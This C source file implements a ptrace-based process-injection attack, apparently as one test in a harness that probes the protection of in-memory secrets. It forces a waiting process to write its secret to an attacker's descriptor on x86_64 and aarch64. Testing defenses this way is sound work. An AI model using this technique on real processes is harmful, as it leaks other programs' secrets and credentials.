/* SPDX-License-Identifier: MIT */
/*
 * attack_inject.c - make the victim itself call write(2)
 *
 * A tracer sets the victim's registers so that its next instruction is a
 * system call of the tracer's choice.  The kernel then reads the secret as the
 * victim may: no memory stops this, only keeping tracers away does.  Run by
 * the attacker while the victim waits in read(2); the instruction that made
 * that call is used again, so that no code is brought along.
 *
 * Everything that depends on the CPU is in one block each.
 */
#include "config.h"

#include <errno.h>
#include <signal.h>
#include <stddef.h>
#include <string.h>
#include <sys/types.h>
#include <sys/wait.h>
#include <time.h>
#include <unistd.h>

#ifdef HAVE_SYS_PTRACE_H
#include <sys/ptrace.h>
#endif

#include "attack_impl.h"

#if defined(PTRACE_GETREGSET) && (defined(__x86_64__) || defined(__aarch64__))
#include <elf.h>
#include <sys/uio.h>
#include <sys/user.h>

typedef struct user_regs_struct regs_t;

#define TRIES 200	      /* until the victim is in its read(2) */
#define PAUSE_NS (1000 * 1000) /* between them */
#define INSTRUCTION_MASK(bytes) (~0UL >> (64 - 8 * (bytes)))

#ifdef __x86_64__
#define CALL_SIZE 2	    /* bytes of the instruction */
#define CALL_CODE 0x050fUL  /* "syscall", as a little-endian number */
#define CALL_NUMBER 1	    /* write */
#define PROGRAM_COUNTER rip

static void set_call(regs_t *regs, long fd, const void *from, size_t size)
{
	regs->rax = CALL_NUMBER;
	regs->orig_rax = (unsigned long)-1; /* no call to be restarted */
	regs->rdi = (unsigned long)fd;
	regs->rsi = (unsigned long)from;
	regs->rdx = size;
}

static long call_result(const regs_t *regs)
{
	return (long)regs->rax;
}
#else /* aarch64 */
#define CALL_SIZE 4
#define CALL_CODE 0xd4000001UL /* "svc #0" */
#define CALL_NUMBER 64	       /* write */
#define PROGRAM_COUNTER pc

static void set_call(regs_t *regs, long fd, const void *from, size_t size)
{
	regs->regs[8] = CALL_NUMBER;
	regs->regs[0] = (unsigned long)fd;
	regs->regs[1] = (unsigned long)from;
	regs->regs[2] = size;
}

static long call_result(const regs_t *regs)
{
	return (long)regs->regs[0];
}
#endif

static int move_regs(int request, pid_t pid, regs_t *regs)
{
	struct iovec set;

	set.iov_base = regs;
	set.iov_len = sizeof(*regs);
	return ptrace(request, pid, (void *)(size_t)NT_PRSTATUS, &set) == 0 ?
		       0 : -errno;
}

static int is_call(pid_t pid, unsigned long at)
{
	unsigned long code;

	errno = 0;
	code = (unsigned long)ptrace(PTRACE_PEEKTEXT, pid, (void *)at, NULL);
	return errno == 0 &&
	       (code & INSTRUCTION_MASK(CALL_SIZE)) == CALL_CODE;
}

/* Where the system call is that the stopped victim was in, or 0: none.  Some
 * kernels have gone back to it already, to make it again. */
static unsigned long find_call(pid_t pid, const regs_t *regs)
{
	unsigned long pc = regs->PROGRAM_COUNTER;

	if (is_call(pid, pc - CALL_SIZE))
		return pc - CALL_SIZE;
	return is_call(pid, pc) ? pc : 0;
}

static int await_stop(pid_t pid)
{
	int status;

	if (waitpid(pid, &status, 0) < 0)
		return -errno;
	return WIFSTOPPED(status) ? 0 : -ESRCH;
}

/* Lets the victim run until a stop finds it in a system call. */
static int stop_in_call(pid_t pid, regs_t *regs, unsigned long *at)
{
	struct timespec pause = { 0, PAUSE_NS };
	int tries;
	int error;

	for (tries = 0; tries < TRIES; tries++) {
		error = await_stop(pid);
		if (error == 0)
			error = move_regs(PTRACE_GETREGSET, pid, regs);
		if (error != 0)
			return error;
		*at = find_call(pid, regs);
		if (*at != 0)
			return 0;
		if (ptrace(PTRACE_CONT, pid, NULL, NULL) != 0)
			return -errno;
		nanosleep(&pause, NULL);
		kill(pid, SIGSTOP);
	}
	return -EAGAIN;
}

/* The result of the call, or a negative errno of either. */
static long make_call(struct attack_site *site, long fd)
{
	unsigned long at = 0;
	regs_t regs;
	long error;

	error = stop_in_call(site->pid, &regs, &at);
	if (error != 0)
		return error;
	set_call(&regs, fd, site->at, site->size);
	regs.PROGRAM_COUNTER = at;
	error = move_regs(PTRACE_SETREGSET, site->pid, &regs);
	if (error != 0)
		return error;
	if (ptrace(PTRACE_SINGLESTEP, site->pid, NULL, NULL) != 0)
		return -errno;
	error = await_stop(site->pid);
	if (error == 0)
		error = move_regs(PTRACE_GETREGSET, site->pid, &regs);
	return error != 0 ? error : call_result(&regs);
}

void attack_inject_write(struct attack_site *site, struct attack_result *r)
{
	long n;

	if (ptrace(PTRACE_ATTACH, site->pid, NULL, NULL) != 0) {
		r->error = errno;
		return;
	}
	n = make_call(site, site->out);
	if (n > 0)
		site->got = attack_read_all(site->in, site->leak, (size_t)n);
	else
		r->error = (int)-n;
}
#else
void attack_inject_write(struct attack_site *site, struct attack_result *r)
{
	(void)site;
	attack_not_here(r, "not tried on this CPU and system");
}
#endif
